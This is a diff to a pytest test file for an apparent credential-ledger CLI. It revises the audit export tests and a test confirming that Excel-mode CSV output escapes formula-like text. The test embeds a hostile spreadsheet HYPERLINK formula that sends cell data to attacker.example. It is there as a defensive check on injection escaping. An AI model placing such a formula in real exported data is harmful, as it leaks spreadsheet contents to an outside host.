@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from ledger.application import Ledger
-from ledger.demo import REVOCATION_REASON, award_id, award_reference
+from ledger.demo import REVOCATION_CATEGORY, REVOCATION_NOTE, credential_id
 from tests.cli.conftest import Invoke, one_line_error
 
 
@@ -31,7 +31,8 @@ def test_the_audit_table_shows_who_did_what_and_why(seeded: Invoke) -> None:
     cells = [cell.strip() for cell in row.split("│")]
     assert "LearnerRecord.AwardRevoked" in cells
     assert "provider:SETU:demo-seed" in cells
-    assert REVOCATION_REASON in cells
+    # The authority's audit: the public category and the private note.
+    assert f"{REVOCATION_CATEGORY.value}: {REVOCATION_NOTE}" in cells
 
 
 def test_csv_export_opens_cleanly_in_a_spreadsheet(seeded: Invoke, tmp_path: Path) -> None:
@@ -62,7 +63,7 @@ def test_csv_export_opens_cleanly_in_a_spreadsheet(seeded: Invoke, tmp_path: Pat
         assert datetime.fromisoformat(row["timestamp"]).tzinfo is not None
         json.loads(row["data"])
     revocations = [r for r in rows if r["event_type"] == "LearnerRecord.AwardRevoked"]
-    assert [r["reason"] for r in revocations] == [REVOCATION_REASON]
+    assert [r["reason"] for r in revocations] == [f"{REVOCATION_CATEGORY.value}: {REVOCATION_NOTE}"]
     assert f"wrote {len(rows)} events to {target}" in result.stderr
 
 
@@ -84,16 +85,19 @@ def test_excel_export_keeps_formula_like_text_as_text(
 ) -> None:
     hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
     ledger = open_ledger()
-    ledger.revoke_award(
-        award_id(ledger, "CETB", award_reference(4)), reason=hostile, actor="provider:CETB:x"
+    # A reason a provider types (a revocation's starts with its category, so an
+    # amendment's is the one that can start with anything).
+    ledger.amend_micro_credential(
+        credential_id("CETB", "SITE-SAFE"),
+        changes={"further_information": "see the provider's site"},
+        reason=hostile,
+        actor="provider:CETB:x",
     )
     plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
 
-    assert seeded("audit", "-f", "csv", "-o", str(plain), "--event", "AwardRevoked").exit_code == 0
+    assert seeded("audit", "-f", "csv", "-o", str(plain), "--event", "Amended").exit_code == 0
     assert (
-        seeded(
-            "audit", "-f", "csv", "-o", str(excel), "--excel", "--event", "AwardRevoked"
-        ).exit_code
+        seeded("audit", "-f", "csv", "-o", str(excel), "--excel", "--event", "Amended").exit_code
         == 0
     )
 
@@ -101,8 +105,8 @@ def test_excel_export_keeps_formula_like_text_as_text(
         text = path.read_bytes().decode("utf-8-sig")
         return [row["reason"] for row in csv.DictReader(io.StringIO(text, newline=""))]
 
-    assert reasons(plain) == [REVOCATION_REASON, hostile]
-    assert reasons(excel) == [REVOCATION_REASON, "'" + hostile]
+    assert reasons(plain) == [hostile]
+    assert reasons(excel) == ["'" + hostile]
     assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
 
 
